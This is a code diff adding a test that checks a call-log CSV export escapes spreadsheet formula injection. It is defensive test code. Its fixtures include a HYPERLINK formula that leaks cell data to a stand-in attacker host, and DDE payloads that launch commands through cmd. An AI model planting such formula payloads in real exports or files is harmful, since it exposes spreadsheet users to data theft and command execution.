@@ -154,3 +154,43 @@ describe('GET /api/v1/calls/export', () => {
     });
   });
 });
+
+describe('GET /api/v1/calls/export?format=csv and spreadsheet formulas', () => {
+  let t: TestApp;
+  afterAll(() => t?.close());
+
+  /** Prompts a spreadsheet would run as formulas, each captured as a real call. */
+  const PROMPTS = [
+    '=HYPERLINK("http://attacker.example/?leak="&A1, "Click for details")',
+    '+1+cmd|\' /C calc\'!A0',
+    '-2+3, then "more", please',
+    '@SUM(1+1)*cmd|\' /C calc\'!A0',
+    '\t=1+1 behind a tab',
+    '\r=1+1 behind a carriage return\nand a second line',
+    '＝HYPERLINK("http://attacker.example") with a full-width equals sign',
+    'a plain prompt = 1 + 1',
+  ];
+
+  it('prefixes text cells that start with = + - @ tab or CR with a quote, and leaves numbers as numbers', async () => {
+    t = await createTestApp();
+    for (const [i, prompt] of PROMPTS.entries()) {
+      await t.deps.database.client.execute({
+        sql: `INSERT INTO raw_calls (provider, model, modality, status, request_json, response_json, error_json, latency_ms,
+                                     total_tokens, request_hash, metadata_json, created_at)
+              VALUES ('alpha', ?, 'chat', 'success', ?, ?, NULL, ?, 3, ?, '{}', '2025-01-01T00:00:00.000Z')`,
+        // The model name is a formula too; latency is a negative number (a clock that stepped back).
+        args: [i === 0 ? '=cmd|\'/C calc\'!A0' : 'm', JSON.stringify({ messages: [{ role: 'user', content: prompt }] }), JSON.stringify({ text: prompt }), -12.5, `h${i}`],
+      });
+    }
+    const res = await t.get('/api/v1/calls/export?format=csv');
+    expect(res.status).toBe(200);
+    const records = parse(await res.text(), { columns: true }) as Array<Record<string, string>>;
+    expect(records.map((r) => r.prompt)).toEqual([...PROMPTS.slice(0, -1).map((p) => `'${p}`), PROMPTS.at(-1)]);
+    expect(records.map((r) => r.response)).toEqual(records.map((r) => r.prompt));
+    expect(records[0]!.model).toBe('\'=cmd|\'/C calc\'!A0');
+    expect(records.map((r) => r.latency_ms)).toEqual(PROMPTS.map(() => '-12.5'));
+    // The JSON columns still hold the prompt exactly as captured.
+    expect(records.map((r) => JSON.parse(r.request_json!).messages[0].content)).toEqual(PROMPTS);
+  });
+});
+
